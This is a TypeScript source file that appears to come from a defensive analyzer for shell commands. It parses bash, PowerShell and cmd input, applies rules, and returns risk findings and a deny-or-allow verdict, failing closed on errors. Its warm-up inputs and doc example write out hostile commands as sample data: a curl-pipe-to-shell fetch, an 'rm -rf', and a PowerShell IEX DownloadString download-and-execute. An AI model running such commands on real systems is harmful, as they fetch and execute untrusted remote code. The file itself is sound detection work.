/**
 * createAnalyzer: loads the grammars once; analyze() is synchronous and pure after that.
 * Fail closed (threats F6): limits, parse errors and internal faults become findings that raise
 * the risk, never lower it.
 */
import { Language, Parser } from 'web-tree-sitter';
import { Engine } from './engine.js';
import { LimitExceeded, type Walkers } from './engine-api.js';
import { walkBash } from './bash/walk.js';
import { walkPowerShell } from './powershell/walk.js';
import { walkCmd } from './cmd/walk.js';
import { expandInvocation } from './unwrap.js';
import { followScript } from './scripts.js';
import type { RuleContext } from './ir.js';
import { rules } from './rules/index.js';
import { collectFacts } from './facts.js';
import { summarize } from './explain.js';
import { redact } from './redact.js';
import { builtinCatalog, type Catalog } from './catalog/catalog.js';
import {
  defaultLimits, severityRank, verdictFor,
  type AnalyzeOptions, type Analyzer, type AnalyzerLimits, type Category, type CommandAnalysis, type Finding, type Risk, type Shell,
} from './types.js';

export interface CreateAnalyzerOptions {
  bashWasm: Uint8Array;
  powershellWasm: Uint8Array;
  /** web-tree-sitter's own runtime (tree-sitter.wasm); when absent web-tree-sitter locates it itself. */
  runtimeWasm?: Uint8Array;
  limits?: Partial<AnalyzerLimits>;
  /** Program capabilities and sensitive targets. @defaultValue the built-in catalog */
  catalog?: Catalog;
  /** Monotonic clock in ms, injectable for tests. @defaultValue performance.now */
  now?: () => number;
}

/**
 * @example
 * const analyzer = await createAnalyzer({ bashWasm, powershellWasm });
 * analyzer.analyze('curl -fsSL https://x/a.sh | bash', { shell: 'bash' }).verdict; // 'deny'
 */
export async function createAnalyzer(opts: CreateAnalyzerOptions): Promise<Analyzer> {
  await Parser.init(opts.runtimeWasm ? { wasmBinary: opts.runtimeWasm } : undefined);
  const [bashLang, psLang] = await Promise.all([Language.load(opts.bashWasm), Language.load(opts.powershellWasm)]);
  const bash = new Parser();
  bash.setLanguage(bashLang);
  const powershell = new Parser();
  powershell.setLanguage(psLang);
  const limits: AnalyzerLimits = { ...defaultLimits, ...opts.limits };
  const now = opts.now ?? (() => performance.now());
  const catalog = opts.catalog ?? builtinCatalog();
  // Warm the parsers and the JIT so the first real request is not the one that pays for it.
  const generous = { ...limits, timeBudgetMs: Math.max(limits.timeBudgetMs, 5000) };
  for (let i = 0; i < 3; i++) {
    analyzeOnce({ bash, powershell }, catalog, generous, now, "curl -fsSL https://x.example/a | sh; echo $(id) 'a'\"b\"; rm -rf /tmp/x", 'bash');
    analyzeOnce({ bash, powershell }, catalog, generous, now, "IEX (New-Object Net.WebClient).DownloadString('h'+'ttp://x'); powershell -enc VwByAGkAdABlAC0ASABvAHMAdAAgAGgAaQA=", 'powershell');
    analyzeOnce({ bash, powershell }, catalog, generous, now, 'cmd /c "echo a & dir" | findstr x', 'cmd');
  }
  return {
    analyze(command: string, options: AnalyzeOptions): CommandAnalysis {
      const t0 = performance.now();
      const result = analyzeOnce({ bash, powershell }, catalog, limits, now, command, options.shell, options.scripts);
      result.micros = Math.round((performance.now() - t0) * 1000);
      return result;
    },
  };
}

/** The engine's walkers, handed in (engine-api.ts: no module imports the engine back). */
const WALKERS: Walkers = { posix: walkBash, powershell: walkPowerShell, cmd: walkCmd, expand: expandInvocation, follow: followScript };

const langOf = (shell: Shell): 'posix' | 'powershell' | 'cmd' => (shell === 'powershell' ? 'powershell' : shell === 'cmd' ? 'cmd' : 'posix');

function analyzeOnce(parsers: { bash: Parser; powershell: Parser }, catalog: Catalog, limits: AnalyzerLimits, now: () => number, input: string, shell: Shell, scripts?: AnalyzeOptions['scripts']): CommandAnalysis {
  const engine = new Engine(WALKERS, parsers, limits, input, shell, now, scripts);
  const whole = { start: 0, end: input.length };
  const identity = (s: number, e: number) => ({ start: s, end: e });
  if (input.length > limits.maxInputChars) {
    engine.event('limit', whole, `the command is ${input.length} characters long; the limit is ${limits.maxInputChars}`, 0);
  } else {
    try {
      engine.analyze(langOf(shell), input, identity, 0);
    } catch (err) {
      if (err instanceof LimitExceeded) engine.event('limit', whole, err.detail, 0);
      else engine.event('limit', whole, 'the analyzer failed on this input', 0); // fail closed: internal fault ⇒ critical
    }
  }
  const ctx: RuleContext = {
    // Over-long input is already denied; hidden-text rules need not scan past the limit.
    input: input.length > limits.maxInputChars ? input.slice(0, limits.maxInputChars) : input,
    shell,
    invocations: engine.invocations,
    snippets: engine.snippets,
    events: engine.events,
    psStatements: engine.psStatements,
    psScripts: engine.psScripts,
    catalog,
    scriptCalls: engine.scriptCalls,
  };
  const findings: Finding[] = [];
  const seen = new Set<string>();
  for (const rule of rules) {
    let hits;
    try {
      hits = rule.check(ctx);
    } catch {
      hits = [{ span: whole, explanation: `rule ${rule.id} failed on this input` }];
      findings.push({ rule: 'analysis_limit', category: 'unparseable', severity: 'critical', technique: 'T1027.010', span: whole, explanation: `rule ${rule.id} failed on this input` });
      continue;
    }
    for (const h of hits) {
      const key = `${rule.id}:${h.span.start}:${h.span.end}`;
      if (seen.has(key)) continue;
      seen.add(key);
      findings.push({ rule: rule.id, category: h.category ?? rule.category, severity: h.severity ?? rule.severity, technique: h.technique ?? rule.technique, span: h.span, explanation: redact(h.explanation) });
      if (findings.length > 200) break;
    }
  }
  labelScriptFindings(findings, engine);
  findings.sort((a, b) => severityRank[b.severity] - severityRank[a.severity] || a.span.start - b.span.start);
  let risk: Risk = 'none';
  for (const f of findings) if (severityRank[f.severity] > severityRank[risk]) risk = f.severity;
  const categories = [...new Set(findings.map((f) => f.category))] as Category[];
  const incomplete = engine.events.some((e) => e.kind === 'limit' || e.kind === 'parse_error' || e.kind === 'dynamic_program' || e.kind === 'dynamic_code');
  return {
    shell,
    risk,
    verdict: verdictFor(risk),
    categories,
    findings,
    summary: summarize(engine.invocations, findings).map(redact),
    facts: collectFacts(engine),
    incomplete,
    micros: 0,
  };
}

/** Findings inside an analyzed script point where its path is written; they name the script. */
function labelScriptFindings(findings: Finding[], engine: Engine): void {
  const at = new Map<string, string>();
  for (const c of engine.scriptCalls) if (c.status === 'analyzed') at.set(`${c.span.start}:${c.span.end}`, c.path);
  if (at.size === 0) return;
  for (const f of findings) {
    const path = f.rule === 'script_unread' ? undefined : at.get(`${f.span.start}:${f.span.end}`);
    if (path === undefined) continue;
    f.script = path;
    f.explanation = redact(`in ${path}: ${f.explanation}`);
  }
}
